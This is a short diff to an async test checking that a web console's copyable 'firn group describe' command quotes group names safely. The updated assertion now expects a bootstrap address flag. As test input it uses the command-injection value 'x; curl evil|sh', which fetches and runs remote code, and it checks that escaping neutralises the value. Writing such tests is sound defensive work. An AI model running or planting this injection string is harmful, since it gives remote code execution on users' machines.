@@ -137,7 +137,7 @@ async def test_the_command_of_a_group_is_safe_to_paste(
     for name in ("x; curl evil|sh", "x; curl evil|sh\n"):
         await committed(application, name, 0)
     one = (await http.get(f"/console/groups/{quote('x; curl evil|sh')}")).text
-    assert 'data-copy="firn group describe &#39;x; curl evil|sh&#39;"' in one
+    assert re.search(r'data-copy="firn group describe &#39;x; curl evil\|sh&#39; -b 127\.0\.0\.1:\d+"', one), one
     two = await http.get(f"/console/groups/{quote('x; curl evil|sh' + chr(10))}")
     assert two.status_code == 200
     assert "data-copy" not in two.text
